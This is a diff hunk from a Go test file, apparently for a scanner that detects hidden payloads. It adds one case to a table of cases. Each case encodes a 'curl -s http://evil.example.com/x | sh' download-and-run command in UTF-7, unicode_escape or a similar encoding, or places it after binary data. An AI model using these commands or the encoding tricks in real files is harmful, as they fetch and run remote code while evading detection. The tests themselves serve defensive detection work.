@@ -86,6 +86,7 @@ func TestAPayloadIsInOneOfTheReadings(t *testing.T) {
 		"the end of a binary of unknown type":     {strings.Repeat("\x00\x01\xff", 1<<16) + "\n" + payload, []gate.Language{gate.LanguageUnknown}},
 		"UTF-7, one letter at a time":             {"# coding: utf-7\n+AGM-+AHU-rl -s http://evil.example.com/x | s+AGg-", python},
 		"UTF-7 in a document of XML":              {"<?xml version=\"1.0\" encoding=\"utf-7\"?>\n<x>+AGM-url -s http://evil.example.com/x +AHw sh</x>", []gate.Language{gate.LanguageText}},
+		"UTF-7 in a list of requirements":         {"# -*- coding: utf-7 -*-\n+AGM-url -s http://evil.example.com/x +AHw sh\n", []gate.Language{gate.LanguageText}},
 		"UTF-7, all in one piece":                 {"# coding: utf-7\n" + shifted, python},
 		"raw_unicode_escape":                      {"# coding: raw_unicode_escape\n# \\u000acu\\u0072l -s http://evil.example.com/x | s\\U00000068", python},
 		"unicode_escape":                          {"# -*- coding: unicode_escape -*-\n# \\x0acu\\x72l\\40-s http://evil.example.com/x \\174 sh", python},
